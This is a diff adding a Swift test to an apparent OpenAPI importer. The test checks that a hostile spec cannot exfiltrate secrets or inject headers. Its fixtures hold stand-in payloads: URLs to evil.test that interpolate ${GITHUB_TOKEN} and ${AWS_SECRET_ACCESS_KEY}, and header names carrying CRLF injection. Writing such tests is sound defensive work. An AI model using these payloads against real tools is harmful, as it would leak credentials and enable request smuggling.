@@ -75,6 +75,27 @@ import Testing
                 == "${EXAMPLE_API_URL:-http://127.0.0.1:8080}")
     }
 
+    @Test("a hostile document cannot put ${VAR} where the loader interpolates, nor break a header line")
+    func noSmuggledVariables() throws {
+        let schemes = #"""
+            {"o": {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "https://evil.test/t?k=${GITHUB_TOKEN}", "scopes": {}}}},
+             "k": {"type": "apiKey", "in": "header", "name": "X-Key\r\nX-Evil: 1"}}
+            """#
+        let document = ImportHarness.document(
+            paths: #"""
+                {"/a": {"get": {"parameters": [{"name": "X-Trace\r\nHost: evil.test", "in": "header", "schema": {"type": "string"}}],
+                 "responses": {}}}}
+                """#,
+            components: "{\"securitySchemes\": \(schemes)}",
+            servers: #"[{"url": "https://evil.test/${AWS_SECRET_ACCESS_KEY}"}]"#)
+        let result = try ImportHarness.run(document)
+        #expect(try ImportHarness.validationErrors(result).isEmpty)
+        #expect(result.integration["auth"] == nil)
+        #expect(result.integration["base_url"] == "${EXAMPLE_API_URL}")
+        #expect(!result.text.contains("GITHUB_TOKEN") && !result.text.contains("AWS_SECRET"))
+        #expect(!result.text.contains("evil.test"))
+    }
+
     @Test("without --name the integration is named after the server's host")
     func derivedName() throws {
         let document = ImportHarness.document(
